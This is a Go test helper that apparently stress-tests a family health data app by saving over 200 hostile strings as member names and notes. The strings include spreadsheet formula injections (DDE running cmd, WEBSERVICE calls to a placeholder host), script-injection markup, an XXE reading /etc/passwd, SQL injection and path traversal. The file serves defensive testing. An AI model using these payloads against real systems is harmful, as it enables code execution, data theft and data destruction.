package field

import (
	"context"
	"fmt"
	"strings"
	"time"

	"google.golang.org/protobuf/proto"

	clientsdk "github.com/keluarga-sehat/sync/client-sdk"
	ksv1 "github.com/keluarga-sehat/sync/proto/keluargasehat/v1"
)

// hostileKinds are texts that somebody might enter as a name or note to harm who
// reads it, or that break what is careless, by what they are after. %s is a word.
var hostileKinds = map[string][]string{
	"formula": {
		`=%s+1`, `+%s`, `-%s`, `@SUM(%s)`, `=HYPERLINK("https://contoh.example/%s","klik")`, `=cmd|'/C calc'!A0`, `-2+3+cmd|' /C calc'!%s`,
		`=WEBSERVICE("https://contoh.example/"&A1)`, `=IMPORTXML(CONCAT("https://contoh.example/",A1),"//a")`, "\t=%s", "\r=%s", " =%s", `'=%s`,
		`"=%s"`, `＝%s`, `＋%s`, `－%s`, `＠%s`, `=DDE("cmd";"/C calc";"%s")`, "\n=%s", `;=%s`, `,=%s`, "\u200b=%s", "\ufeff=%s", "\u00a0=%s",
	},
	"markup": {
		`<script>globalThis.hostileWasRun=true;alert("%s")</script>`, `<img src=x onerror="globalThis.hostileWasRun=true">%s`,
		`<svg/onload=globalThis.hostileWasRun=true>%s`, `"><script>globalThis.hostileWasRun=true</script>%s`, `'-alert(1)-'%s`,
		`</title><script>alert(1)</script>%s`, `<iframe srcdoc="<script>alert(1)</script>">%s`, `javascript:alert('%s')`, `{{constructor.constructor("alert(1)")()}}%s`,
		`${alert(1)}%s`, `<a href="javascript:alert(1)">%s</a>`, `<!--%s`, `]]>%s`, `<![CDATA[%s]]>`, `&lt;%s&gt;`, `&#x3c;%s&#62;`, `<math><mtext></form><form>%s`,
		`<style>*{display:none}</style>%s`, `<base href="//contoh.example/">%s`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">%s`,
		`{@html "<b>"}%s`, `<template>%s`, `<textarea>%s`, `<object data="x">%s`, `<meta http-equiv=refresh content=0>%s`,
	},
	"xml": {
		`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>%s`, `&xxe;%s`, `<a xmlns="x">%s</a>`, `_x000D_%s`, `_x0041_%s`,
		`_x005F_x0041_%s`, `&amp;%s`, `&%s;`, `<t xml:space="preserve">%s</t>`, `&#0;%s`,
	},
	"csv": {
		`"%s`, `%s"`, `""%s""`, `%s,%s`, `%s;%s`, "%s\n%s", "%s\r\n%s", `","%s`, "%s\t%s", `"%s"` + "\n" + `"=1+1"`, `'%s'`, `''%s`, `'`, `"`, `""`, "%s\r%s",
	},
	"sql":  {`'; DROP TABLE family; --%s`, `' OR '1'='1' %s`, `%s\'; --`, `%s" UNION SELECT 1`, `$1 %s`, `$$%s$$`, `:nama%s`, `?%s`, `\x27%s`, `%s/**/`},
	"path": {`../../etc/passwd%s`, `..\..\windows\%s`, `/dev/null%s`, `C:\%s`, `file:///%s`, `%%2e%%2e/%s`, `CON%s`, `%s/../..`, `~/%s`, `\\server\%s`},
	"json": {
		`{"a":"%s"}`, `[%s]`, `%s\`, `\u0000%s`, `\"%s`, `null`, `true`, `NaN`, `undefined`, `{"__proto__":{"x":"%s"}}`, `1e999`, `-0`, `0x1F`, `00123`, `1,5`,
	},
	"format": {`%%s%%n%%x %s`, `%%!s(MISSING)%s`, `{0}%s`, `{%s}`, `#{%s}`, `%%%s`, `%%d`, `\n%s`, `\r\n%s`, `%%00%s`},
	"bidi": {
		"\u202e%s", "\u202d%s\u202c", "\u2066%s\u2069", "\u200f%s", "%s\u202e", "\u061c%s", "שלום %s", "مرحبا %s", "%s\u2067", "a\u202eb%s",
	},
	"unseen": {
		"\u200b%s", "%s\u200d", "\u2060%s", "%s\u00ad", "\u180e%s", "\u3164%s", "\u2800%s", "%s\u034f", "\ufeff%s", "\u00a0%s\u00a0", "\u2028%s", "%s\u2029",
		"\U000e0041%s", "%s\ufe0f", "\u115f%s",
	},
	"control": {
		"\x00%s", "%s\x00", "a\x00b%s", "\x01%s", "\x07%s", "\x08%s", "\x0b%s", "\x0c%s", "\x1b[31m%s", "\x1f%s", "\x7f%s", "\u0085%s", "\u009f%s", "\ufffe%s", "\uffff%s",
		"\ufffd%s",
	},
	"letters": {
		"Аni %s", "Ѕiti %s", "ＡＮＩ %s", "𝐀𝐧𝐢 %s", "Ꭺni %s", "ı%s", "İ%s", "ß%s", "ﬁ%s", "e\u0301%s", "\u0301%s", "Z̴̧̛͖̹a̶l̸g̷o %s", "ñ%s", "ᮃᮔᮤ %s", "ꦲꦤꦶ %s", "安妮 %s",
	},
	"emoji": {"😀%s", "👩‍⚕️%s", "👨‍👩‍👧‍👦 %s", "🇮🇩%s", "🏴\U000e0067\U000e0062%s", "\U0001f9d1\U0001f3fd%s", "❤️%s", "%s🙈", "\U0010ffff%s", "\U000f0000%s"},
	"blank": {" %s", "%s ", "  %s  ", "\t%s\t", "\n%s\n", "\u3000%s\u3000", "%s  %s", "\u2003%s", ".%s", "-"},
}

// longHostile are as long as a name may be, in characters.
var longHostile = []string{
	strings.Repeat("=", 200), strings.Repeat("é", 200), strings.Repeat("😀", 200), strings.Repeat("\u0301", 200), strings.Repeat("\"", 200),
	strings.Repeat("a\n", 100), strings.Repeat("<", 200), strings.Repeat("W", 200), strings.Repeat("_x0041_", 28),
}

// HostileTexts are over 200 texts by which somebody might try to harm who reads
// them; each is another, and as long as a name may be at most.
func HostileTexts() []string {
	out := append([]string(nil), longHostile...)
	seen := map[string]bool{}
	for _, kind := range []string{
		"formula", "markup", "xml", "csv", "sql", "path", "json", "format", "bidi", "unseen", "control", "letters", "emoji", "blank",
	} {
		for n, form := range hostileKinds[kind] {
			text := strings.ReplaceAll(strings.ReplaceAll(form, "%s", fmt.Sprintf("%s%d", kind, n)), "%%", "%")
			if !seen[text] {
				seen[text] = true
				out = append(out, text)
			}
		}
	}
	return out
}

// hostileAFamily is how many texts one family bears as its members' names.
const hostileAFamily = 10

// HostileFamily is one whose members' names are hostile.
type HostileFamily struct {
	ID    clientsdk.ID
	Names []string
}

// CollectHostile saves families on a device whose names, addresses and notes are
// hostile texts: each text once as a member's name, and each as a note.
func CollectHostile(ctx context.Context, u *clientsdk.User, village uint32, place string) ([]HostileFamily, error) {
	texts := HostileTexts()
	g := NewGenerator(77, 320405, time.Now())
	var out []HostileFamily
	for at := 0; at < len(texts); at += hostileAFamily {
		names := texts[at:min(len(texts), at+hostileAFamily)]
		family := g.FamilyOfFour()
		for len(family.People) < len(names) {
			other := g.person(400, true, ksv1.Relation_RELATION_OTHER, ksv1.MaritalStatus_MARITAL_STATUS_SINGLE)
			g.answerAll(&other, true)
			family.People = append(family.People, other)
		}
		family.People = family.People[:max(len(names), 4)]
		for i, name := range names {
			family.People[i].Member.Name = proto.String(name)
			family.People[i].Individual.Note, family.People[i].Individual.InterventionNote = proto.String(name), proto.String(texts[len(texts)-1-at-i])
		}
		g.identify(family)
		family.Family.HeadName, family.Family.Address = proto.String(names[0]), proto.String(names[len(names)-1])
		family.Round.Note = proto.String(names[len(names)/2] + " " + names[0])
		id, err := Interview(ctx, u, village, place, family)
		if err != nil {
			return nil, fmt.Errorf("family of %q: %w", names, err)
		}
		out = append(out, HostileFamily{id, names})
	}
	return out, nil
}
